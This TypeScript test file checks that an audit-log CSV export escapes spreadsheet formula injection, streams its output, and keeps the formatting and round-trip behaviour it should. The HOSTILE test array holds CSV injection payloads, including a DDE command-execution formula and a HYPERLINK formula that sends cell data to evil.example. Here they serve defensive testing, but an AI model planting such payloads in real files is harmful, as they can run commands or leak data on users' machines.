import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import type { AuditEvent, ChainedEvent } from '../../../engine/audit/audit-event';
import { chainEvent } from '../../../engine/audit/chain';
import { csvOfAudit } from './audit-csv';
import { exportBody } from './audit-export';

const EVENT: AuditEvent = {
  format: 1,
  action: 'project.changed',
  at: '2026-03-01T10:00:00.000Z',
  actor: { kind: 'person', id: 'p1', name: 'Somebody' },
  object: { kind: 'project', id: 'o1', name: 'Shop' },
  projectId: 'o1',
  environmentId: 'e1',
  deployId: null,
  before: null,
  after: { name: 'Shop' },
  reason: null,
  via: 'browser',
  address: '192.0.2.1',
  requestId: 'r1',
};

const HOSTILE = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '+1+1',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '＝1+1',
  'quote " in the middle',
  '"all of it"',
  'a, b, c',
  'two\nlines',
  'two\r\nlines',
  '🛶 Schleuse – замок 水',
  "'already",
  ' =1',
  '',
];

async function* from(events: readonly ChainedEvent[]): AsyncGenerator<ChainedEvent> {
  for (const event of events) yield await Promise.resolve(event);
}

const chained = (name: string): ChainedEvent =>
  chainEvent(null, {
    ...EVENT,
    actor: { ...EVENT.actor, name },
    object: { ...EVENT.object, name },
    after: { name },
    reason: name,
  });

async function csvOf(names: readonly string[]): Promise<string> {
  const rows: string[] = [];
  const projects = [{ id: 'o1', slug: 'shop', name: names[0] ?? 'Shop' }];
  const environments = [{ id: 'e1', projectId: 'o1', name: names[0] ?? 'Production' }];
  for await (const row of csvOfAudit({ events: from(names.map(chained)), projects, environments })) {
    rows.push(row);
  }
  return rows.join('');
}

/** As a program reads it that knows of the byte order mark. */
const read = (csv: string): readonly Readonly<Record<string, string>>[] =>
  parse(csv, { columns: true, bom: true, record_delimiter: '\r\n' });

/** What a spreadsheet would take for more than a text. */
const RECKONED = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const escaped = (text: string): string =>
  RECKONED.some((sign) => text.startsWith(sign)) ? `'${text}` : text;

it('gives every hostile name back in its cell, and none that a spreadsheet would reckon', async () => {
  const rows = read(await csvOf(HOSTILE));
  expect(rows.map((row) => row['actor'])).toEqual(HOSTILE.map(escaped));
  expect(rows.map((row) => row['object'])).toEqual(HOSTILE.map(escaped));
  expect(rows.map((row) => row['reason'])).toEqual(HOSTILE.map(escaped));
  expect(rows.map((row) => row['after'])).toEqual(HOSTILE.map((name) => JSON.stringify({ name })));
  expect(rows[0]).toMatchObject({
    project: escaped(HOSTILE[0] ?? ''),
    environment: escaped(HOSTILE[0] ?? ''),
  });
  for (const row of rows) {
    for (const cell of Object.values(row)) {
      expect(
        RECKONED.some((sign) => cell.startsWith(sign)),
        cell,
      ).toBe(false);
    }
  }
});

it('comes back from a parser as it was, whatever the names are', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }),
      async (names) => {
        const rows = read(await csvOf(names));
        expect(rows.map((row) => row['actor'])).toEqual(names.map(escaped));
        expect(rows.map((row) => row['hash'])).toEqual(names.map((name) => chained(name).hash));
      },
    ),
    { numRuns: 200 },
  );
});

it('is UTF-8 with a byte order mark, CRLF, and a first row that names the columns', async () => {
  const csv = await csvOf(['Somebody']);
  expect([...new TextEncoder().encode(csv).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(csv.split('\r\n')).toHaveLength(3);
  expect(csv.replaceAll('\r\n', '')).not.toContain('\n');
  expect(csv.slice(1).split('\r\n')[0]).toBe(
    'sequence,at,action,actor kind,actor,actor id,object kind,object,object id,project,project id,environment,environment id,deploy id,before,after,reason,via,address,request id,hash',
  );
});

it('says no name of what is gone or not to be seen, only its id', async () => {
  const rows: string[] = [];
  for await (const row of csvOfAudit({ events: from([chained('x')]), projects: [], environments: [] })) {
    rows.push(row);
  }
  expect(read(rows.join(''))[0]).toMatchObject({
    project: '',
    'project id': 'o1',
    environment: '',
    'environment id': 'e1',
  });
});

it('is sent as it is read: nobody waits for the end, and the store is left when the reader goes', async () => {
  const state = { given: 0, left: false };
  async function* endless(): AsyncGenerator<ChainedEvent> {
    try {
      for (;;) {
        state.given += 1;
        yield await Promise.resolve(chained('Somebody'));
      }
    } finally {
      state.left = true;
    }
  }
  const { body, headers } = exportBody({
    format: 'csv',
    events: endless(),
    isWhole: false,
    projects: [],
    environments: [],
  });
  expect(headers['Content-Disposition']).toBe('attachment; filename="lockkeeper-audit-part.csv"');
  const stream = new Response(body).body?.getReader();
  const first = await stream?.read();
  expect(first?.value?.byteLength).toBeGreaterThan(10_000);
  expect(state.given).toBeLessThan(2_000);
  await stream?.cancel();
  expect(state.left).toBe(true);
});
